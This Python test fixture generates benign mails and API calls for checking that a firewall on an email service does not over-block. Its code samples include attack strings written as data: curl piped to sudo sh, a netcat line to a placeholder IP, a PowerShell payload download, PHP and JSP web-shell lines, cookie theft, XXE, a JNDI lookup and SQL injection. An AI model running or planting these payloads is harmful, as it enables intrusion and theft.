"""Good traffic that a careless firewall would block: mails full of markup, code and quoted attacks, and management calls.

Nothing here may be blocked. The same seed gives the same mails.
"""

import base64
import json
import random
from typing import NamedTuple, Optional

import attacks

FROM = "Shop <shop@example.dev>"
SEED = 20251

LANGUAGES = {
    "German": "Grüße aus Köln – „Ihr Paket“ ist unterwegs; Größe: 5 × 3 m, Preis: 12,50 €.",
    "French": "L’été dernier, c’était « très bien » : voilà l’addition d’aujourd’hui.",
    "Polish": "Zażółć gęślą jaźń; zamówienie nr 7 zostało wysłane.",
    "Turkish": "İğneyi kendine, çuvaldızı başkasına batır.",
    "Greek": "Η παραγγελία σας είναι έτοιμη — ευχαριστούμε!",
    "Russian": "Ваш заказ № 7 отправлен. Спасибо, что выбрали нас!",
    "Hebrew": "ההזמנה שלך נשלחה היום; תודה רבה.",
    "Arabic": "تم إرسال طلبك اليوم؛ شكرًا لك.",
    "Hindi": "आपका ऑर्डर भेज दिया गया है। धन्यवाद!",
    "Thai": "คำสั่งซื้อของคุณถูกจัดส่งแล้ว ขอบคุณค่ะ",
    "Japanese": "ご注文の商品を発送しました。「ありがとうございます」",
    "Chinese": "您的订单已发货;感谢您的惠顾。",
    "Korean": "주문하신 상품이 발송되었습니다. 감사합니다!",
    "Emoji": "🚀 Shipped 📦 – 👩‍👩‍👧 says thanks 🏳️‍🌈",
}

SCRIPTS = [
    "<script type=\"application/ld+json\">{\"@context\":\"http://schema.org\",\"@type\":\"Order\"}</script>",
    "<style>@media only screen and (max-width:600px){.x{width:100%!important}}</style>",
    "<!--[if mso]><xml><o:OfficeDocumentSettings/></xml><![endif]-->",
    "<img src=x onerror=\"this.style.display='none'\" alt=''>",
    "<a href=\"javascript:void(0)\" onclick=\"track('open')\">Show</a>",
    "<iframe src=\"https://www.example.com/embed?autoplay=1\"></iframe>",
]

CODE = {
    "SQL": "SELECT u.id, u.name FROM users u LEFT JOIN orders o ON o.user_id = u.id WHERE 1=1 OR u.name = 'admin' -- all\n"
           "UNION ALL SELECT NULL, version();\nDROP TABLE IF EXISTS tmp_orders; EXEC xp_cmdshell 'dir';",
    "shell": "#!/bin/sh\nset -e; cat /etc/passwd | grep root && curl -fsSL https://get.example.com | sudo sh\n"
             "for f in $(ls *.log); do rm -rf \"$f\"; done; nc -l 4444 > /dev/tcp/192.0.2.1/80",
    "PowerShell": "powershell -ExecutionPolicy Bypass -enc SQBFAFgA; Invoke-WebRequest http://192.0.2.1/x.exe",
    "PHP": "<?php\n$pdo->query(\"SELECT * FROM t WHERE id = $_GET[id]\");\neval(base64_decode($_POST['x']));\nphpinfo(); ?>",
    "JSP": "<%@ page import=\"java.util.*\" %>\n<% Runtime.getRuntime().exec(request.getParameter(\"cmd\")); %>",
    "JavaScript": "document.cookie.split(';').map(c => eval(c)); window.location='//example.com/'+document.cookie",
    "XML": "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>",
    "Python": "import os, pickle\nos.system('id'); pickle.loads(data); __import__('subprocess').call(['sh','-c','id'])",
    "Java": "java.lang.Runtime.getRuntime(); new ProcessBuilder(\"id\"); ${jndi:ldap://logs.example.com/a}",
    "Windows": "C:\\Windows\\System32\\cmd.exe /c type ..\\..\\boot.ini & net user",
    "regex": r"^(?:\.\./)+etc/passwd$|%2e%2e%2f|\x00|\\u0000",
    "HTTP": "GET /../../etc/passwd HTTP/1.1\r\nHost: a\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
}

TEMPLATES = ["Hello {{ user.name }}, {% if a %}x{% endif %}", "Dear ${firstName} #{lastName} %{title}", "<%= order.id %> {{{raw}}} [[name]]",
             "{{#each items}}{{this}}{{/each}} {{7*7}} @@NAME@@ *|FNAME|*"]

# What programs say they are.
AGENTS = ["curl/8.14.1", "python-requests/2.32.3", "python-urllib3/2.2", "Go-http-client/2.0", "okhttp/4.12.0", "axios/1.7.9", "node",
          "GuzzleHttp/7", "PHP/8.3", "Java/21.0.2", "Apache-HttpClient/5.3 (Java/21)", "Ruby", "Faraday v2.9.0", "sealwright-node/0.1.0",
          "Wget/1.24.5", "PostmanRuntime/7.43.0", "Microsoft PowerShell/7.4", "libwww-perl/6.77", "reqwest/0.12", "aiohttp/3.10", "",
          "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0", None]


class Call(NamedTuple):
    name: str
    method: str
    target: str
    body: Optional[bytes] = None
    headers: dict = {}


def newsletter(draw):
    links = "".join(
        f'<p><a href="https://news.example.com/c/{draw.getrandbits(64):x}?utm_source=mail&amp;utm_campaign=a+b%20c&amp;redirect='
        f'https%3A%2F%2Fshop.example.com%2F%3Fid%3D{draw.randrange(9999)}%26q%3D%3Cb%3E&amp;sig={draw.getrandbits(400):x}">More</a></p>'
        for _ in range(draw.randrange(1, 12)))
    return {"html": f"<html><head>{''.join(draw.sample(SCRIPTS, 3))}</head><body onload=\"\">{links}</body></html>"}


def code_sample(draw):
    name = draw.choice(list(CODE))
    return {"subject": f"{name}: how do I …?", "text": CODE[name], "html": f"<pre>{CODE[name]}</pre>"}


def advisory(draw):
    """A mail about attacks, which quotes them. The last line of defence would be to block it."""
    quoted = draw.sample(attacks.SQLI + attacks.XSS + attacks.RCE + attacks.CODE + attacks.LOOKUP + attacks.FILES + attacks.REMOTE
                         + attacks.TRAVERSAL + attacks.SSRF, 6)
    return {"subject": "Seen in our logs: " + quoted[0].replace("\n", " "), "text": "\n".join(quoted), "html": "<br>".join(quoted)}


def foreign(draw):
    language = draw.choice(list(LANGUAGES))
    return {"subject": LANGUAGES[language], "text": LANGUAGES[language] * draw.randrange(1, 40)}


def attached(draw):
    content = base64.b64encode(draw.randbytes(draw.choice([10, 1000, 30_000, 200_000]))).decode()
    kinds = [("invoice.pdf", "application/pdf"), ("shell.php", "application/x-php"), ("setup.sql", "text/plain"), ("../x.sh", "text/x-shellscript")]
    name, kind = draw.choice(kinds)
    return {"text": "see attached", "attachments": [{"filename": name.replace("../", ""), "content": content, "contentType": kind}]}


def template(draw):
    return {"subject": "Welcome, {{name}}", "html": draw.choice(TEMPLATES), "text": draw.choice(TEMPLATES)}


def headed(draw):
    return {"text": "x", "headers": {"X-Campaign": "a' OR 1=1 -- <b>", "List-Unsubscribe": "<https://example.com/u?id=1&x=%3Cscript%3E>"},
            "metadata": {"query": "SELECT 1; --", "path": "../../etc/passwd", "n": draw.randrange(99)}, "tags": ["select", "union-all"]}


MAKERS = [newsletter, code_sample, advisory, foreign, attached, template, headed]


def mails(count, canary):
    """`count` mails, each with the canary in its body."""
    draw = random.Random(SEED)
    for number in range(count):
        maker = MAKERS[number % len(MAKERS)]
        mail = {"from": FROM, "to": f"reader+{number}@example.com", "subject": "Order 7", **maker(draw)}
        mail["text"] = f"{mail.get('text', '')}\n{canary}"
        headers = {"Content-Type": draw.choice(["application/json", "application/json; charset=utf-8"])}
        if number % 3 == 0:
            headers["Idempotency-Key"] = f"{draw.getrandbits(128):032x}.mail-{number}_x"
        agent = draw.choice(AGENTS)
        if agent is not None:
            headers["User-Agent"] = agent
        body = json.dumps(mail, ensure_ascii=number % 2 == 0).encode()
        yield Call(f"{maker.__name__} {number}", "POST", "/v1/emails", body, headers)


def large_mail(canary):
    """Close to the largest that the API takes."""
    content = base64.b64encode(random.Random(SEED).randbytes(20 * 1024 * 1024)).decode()
    mail = {"from": FROM, "to": "reader@example.com", "subject": "Large", "text": canary,
            "attachments": [{"filename": "large.bin", "content": content}]}
    return Call("large mail of 27 MiB", "POST", "/v1/emails", json.dumps(mail).encode(), {"Content-Type": "application/json"})


LISTS = [
    "/v1/emails", "/v1/emails?limit=100", "/v1/emails?status=bounced&limit=20", "/v1/emails?tags=order",
    "/v1/emails?tags=select-from_union", "/v1/emails?to=ada%40example.com", "/v1/emails?to=ada@example.com",
    "/v1/emails?to=o%27brien%40example.com", "/v1/emails?to=sean.o'neill%2Bmail@example.ie",
    "/v1/emails?to=j%C3%BCrgen%40m%C3%BCller.example", "/v1/emails?to=a%2Bb%40example.com", "/v1/emails?to=and.or-not%40select.example",
    "/v1/emails?to=x_%26y%40example.com", "/v1/emails?to=drop%40table.example.com",
    "/v1/emails?to=root%40localhost.example", "/v1/emails?to=union%40select.org", "/v1/emails?to=1%3D1%40example.com",
    "/v1/emails?from_date=2026-01-01", "/v1/emails?from_date=2026-01-01T00:00:00Z&to_date=2026-02-01T00:00:00%2B02:00",
    "/v1/emails?from_date=2026-01-01T00%3A00%3A00.000%2B01%3A00", "/v1/emails?starting_after=email_01m80ky55whe0b9z3ta0qwsp2f",
    "/v1/emails?ending_before=EMAIL_01M80KY55WHE0B9Z3TA0QWSP2F&limit=1", "/v1/webhooks", "/v1/webhooks?limit=5", "/healthz", "/readyz",
    "/v1/emails/email_01m80ky55whe0b9z3ta0qwsp2f", "/v1/emails/email_01m80ky55whe0b9z3ta0qwsp2f/attempts",
    "/v1/webhooks/wh_01m80m49cjdk9hghk0n0z4fgwb", "/v1/api-keys?limit=100", "/v1/settings", "/v1/me", "/v1/openapi.json",
]

WEBHOOK_URLS = [
    "https://hooks.example.com/mail", "https://hooks.example.com/mail?token=abc123&tenant=7", "https://example.com:8443/a/b/c?x[]=1&y=%2F",
    "https://user-service.example.org/webhooks/email/incoming?redirect=https%3A%2F%2Fx.example%2F", "https://hooks.example.com/api/v2/select?id=1",
    "https://xn--mller-kva.example/haken", "https://hooks.example.com/exec/run.php?cmd=mail", "https://hooks.example.com/~ada/cgi-bin/mail.cgi",
    "https://hooks.example.com/mail?", "https://198.51.100.7/mail", "https://hooks.example.com/T00000000/B00000000/XXXXXXXXXXXXXXXXXXXXXXXX",
    "https://prod-12.westeurope.logic.example.net:443/workflows/a/triggers/manual/paths/invoke?api-version=2016-10-01&sp=%2Ftriggers%2Fmanual%2Frun&sv=1.0&sig=AbC-dEf_1",
]

DESCRIPTIONS = [
    "orders", "The shop's endpoint", "Ada's \"new\" hook (test)", "orders & invoices", "Select customers from Europe",
    "Delivered/bounced → CRM", "It's 50% done – don't drop it", "R&D: union of sales and support", "Größe 5 × 3, 日本語, 🚀", "#1 priority!",
    "update the table when mail is bounced", "cron job, runs at 05:00", "a < b and b > c", "John O'Reilly's team = \"ops\"", "v1.2 (staging) -- do not delete",
    "Who, what & where?", "ping -> pong", "echo hook for the echo team", "sleep mode docs", "delete from CRM when gone",
]

KEY_NAMES = ["CI", "John's key (CI)", "shop – production", "Grüße", "key #2: read & send", "select team", "\"quoted\"", "ops; on call"]


def management():
    """What dashboards and scripts ask for. Routes that this version does not have are the API's to refuse, not ours."""
    for target in LISTS:
        yield Call(target, "GET", target)
    for number, url in enumerate(WEBHOOK_URLS):
        yield small("POST", "/v1/webhooks", {"url": url, "events": ["email.*"], "description": DESCRIPTIONS[number]})
    for text in DESCRIPTIONS:
        yield small("POST", "/v1/webhooks", {"url": "https://hooks.example.com/mail", "events": ["email.delivered", "email.bounced"], "description": text})
    for name in KEY_NAMES:
        yield small("POST", "/v1/api-keys", {"name": name, "permissions": ["emails:send", "webhooks:*"], "domainRestrictions": ["example.com"],
                                             "ipRestrictions": ["192.0.2.0/24", "2001:db8::/32"], "expiresAt": "2027-01-01T00:00:00Z",
                                             "rateLimit": {"requests": 10, "period": "second"}, "mode": "test", "prefix": "mp"})
    yield small("POST", "/v1/api-keys", {"name": "all", "permissions": ["*"], "allPermissions": True, "expiresAt": None, "rateLimit": None})
    yield small("PATCH", "/v1/api-keys/key_01m80m49cjdk9hghk0n0z4fgwb", {"name": "O'Brien", "ipRestrictions": []})
    yield small("POST", "/v1/api-keys/key_01m80m49cjdk9hghk0n0z4fgwb/rotate", {"overlap": 86400})
    yield small("PATCH", "/v1/settings", {"securityContact": "security+mail@example.com", "keyExposurePolicy": "expire_24h", "apiKeyMaxAgeDays": 90,
                                          "browserOrigins": ["https://app.example.com", "https://localhost:3000"]})
    yield small("POST", "/v1/secrets/exposed", {"secrets": [{"token": "le_" + "A" * 36, "url": "https://github.com/a/b/blob/main/.env#L3",
                                                             "source": "<script>'; DROP TABLE x--"}]})
    yield Call("delete a webhook", "DELETE", "/v1/webhooks/wh_01m80m49cjdk9hghk0n0z4fgwb")
    yield Call("rotate without a body", "POST", "/v1/api-keys/key_01m80m49cjdk9hghk0n0z4fgwb/rotate")
    yield Call("a preflight", "OPTIONS", "/v1/emails", None, {"Origin": "https://app.example.com", "Access-Control-Request-Method": "POST",
                                                              "Access-Control-Request-Headers": "authorization,content-type"})
    yield Call("HEAD", "HEAD", "/healthz")
    for agent in AGENTS:
        yield Call(f"User-Agent {agent}", "GET", "/v1/webhooks", None, {} if agent is None else {"User-Agent": agent})


def small(method, target, content):
    return Call(f"{method} {target} {content}", method, target, json.dumps(content).encode(), {"Content-Type": "application/json"})
